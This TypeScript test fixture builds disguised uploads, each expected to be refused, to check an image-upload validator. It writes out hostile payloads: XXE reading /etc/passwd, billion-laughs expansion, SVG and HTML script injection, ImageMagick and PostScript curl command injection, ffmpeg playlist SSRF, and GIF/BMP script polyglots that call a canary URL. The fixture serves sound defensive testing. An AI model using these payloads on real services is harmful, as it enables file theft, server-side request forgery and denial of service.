import { gzipSync } from 'node:zlib'
import sharp from 'sharp'
import type { Upload } from './kinds.ts'
import { bytesIn } from './bytes.ts'

const script = '<script>__ran(1)</script>'
const namespaces = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
const svg = (inside: string) => `<svg ${namespaces} width="9" height="9">${inside}</svg>`

/** Files that are not images of a supported type; ¤ is replaced by the canary URL. */
const texts: Record<string, string> = {
  SVG: svg(script),
  'SVG with a declaration': `<?xml version="1.0"?>${svg(script)}`,
  'SVG with an external entity': `<!DOCTYPE svg [<!ENTITY x SYSTEM "¤">]>${svg('<text>&x;</text>')}`,
  'SVG with a local file': `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('<text>&x;</text>')}`,
  'SVG with an external image': svg('<image xlink:href="¤" width="9" height="9"/>'),
  'SVG with an external style sheet': `<?xml-stylesheet href="¤"?>${svg('<style>@import "¤";</style>')}`,
  'SVG with a page inside': svg(
    `<foreignObject><body xmlns="http://www.w3.org/1999/xhtml">${script}</body></foreignObject>`,
  ),
  'SVG after spaces': `\n\n\t ${svg(script)}`,
  'SVG after a byte order mark': `\xef\xbb\xbf${svg(script)}`,
  'SVG after a comment': `<!-- \xff\xd8\xff -->${svg(script)}`,
  'SVG with a billion laughs': `<!DOCTYPE svg [<!ENTITY a "${'ha'.repeat(50)}"><!ENTITY b "${'&a;'.repeat(50)}"><!ENTITY c "${'&b;'.repeat(50)}"><!ENTITY d "${'&c;'.repeat(50)}">]>${svg('<text>&d;</text>')}`,
  'a page': `<!DOCTYPE html><title>x</title>${script}<img src="¤">`,
  'a page without a doctype': script,
  'a script': 'fetch("¤")',
  PHP: '<?php file_get_contents("¤"); ?>',
  'a PDF':
    '%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.launchURL("¤"))>>>>endobj\ntrailer<</Root 1 0 R>>',
  'an archive': 'PK\x03\x04\x14\0\0\0\0\0evil.html',
  PostScript: '%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%curl ¤) (r) file',
  'commands for ImageMagick': 'push graphic-context\nviewbox 0 0 9 9\nfill \'url(¤"|curl "¤)\'\npop graphic-context',
  'a script for ImageMagick': '<image><read filename="¤"/><write filename="/tmp/x.php"/></image>',
  'a list for ffmpeg': '#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\n¤\n#EXT-X-ENDLIST',
  'a list of files': 'ffconcat version 1.0\nfile ¤',
  'a GIF that is a script': 'GIF89a/*\0\0\0*/=1;fetch("¤")',
  'a BMP that is a script': 'BM/*\0\0\0\0*/=1;fetch("¤")',
  'a program': '\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0',
  'a Photoshop file': '8BPS\0\x01\0\0\0\0\0\0\0\x03\0\0\0\x09\0\0\0\x09\0\x08\0\x03',
  'an icon': '\0\0\x01\0\x01\0\x09\x09\0\0\x01\0\x20\0',
  'JPEG 2000': '\0\0\0\x0cjP  \r\n\x87\n\0\0\0\x14ftypjp2 ',
  'JPEG XL': '\0\0\0\x0cJXL \r\n\x87\n\0\0\0\x14ftypjxl ',
  'a portable pixmap': 'P3 9 9 255 ',
  'a MATLAB file': 'MATLAB 5.0 MAT-file',
}

/** Prefixes that make a file begin like an image. */
const masks: Record<string, string> = {
  'without a prefix': '',
  'after the beginning of a JPEG': '\xff\xd8\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0',
  'after the beginning of a PNG': '\x89PNG\r\n\x1a\n',
  'after the beginning of a WebP': 'RIFF\xff\0\0\0WEBPVP8 ',
  'after the beginning of an AVIF': '\0\0\0\x1cftypavif\0\0\0\0avifmif1miaf',
}

const types = ['image/png', 'image/jpeg', 'image/webp', 'image/avif']

/** All files with the first mask, and with one of the others each. */
export function disguises(canary: string): Upload[] {
  const [plain = '', ...masked] = Object.keys(masks)
  const named = Object.entries(texts).flatMap(([name, text], at) =>
    [plain, masked[at % masked.length] ?? '', masked[(at + 1) % masked.length] ?? ''].map((mask) => ({
      name,
      text,
      mask,
    })),
  )
  const worn = named.map(({ name, text, mask }, at): Upload => ({
    name: `${name}, ${mask}`,
    expected: 'refused',
    type: types[at % types.length] ?? '',
    make: async () => bytesIn(`${masks[mask]}${text.replaceAll('¤', canary)}`),
  }))
  const red = { create: { width: 9, height: 9, channels: 3, background: 'red' } } as const
  const others: [string, () => Promise<Buffer>][] = [
    ['a real GIF', () => sharp(red).gif().toBuffer()],
    ['a real TIFF', () => sharp(red).tiff().toBuffer()],
    ['a compressed SVG', async () => gzipSync(svg(script))],
    ['an SVG in UTF-16', async () => Buffer.from(`\ufeff${svg(script)}`, 'utf16le')],
    ['nothing', async () => Buffer.alloc(0)],
    ['zeros', async () => Buffer.alloc(5_000_000)],
    ['an AVIF that declares HEIC', async () => renamed(await sharp(red).avif().toBuffer(), 'ftypavif', 'ftypheic')],
    ['an AVIF whose image declares HEVC', async () => renamed(await sharp(red).avif().toBuffer(), 'av01', 'hvc1')],
  ]
  return [
    ...worn,
    ...others.map(([name, make]): Upload => ({
      name,
      expected: name.includes('declares HEIC') ? 'either' : 'refused',
      type: 'image/png',
      make,
    })),
  ]
}

function renamed(bytes: Buffer, from: string, to: string): Buffer {
  return bytesIn(bytes.toString('latin1').replaceAll(from, to))
}
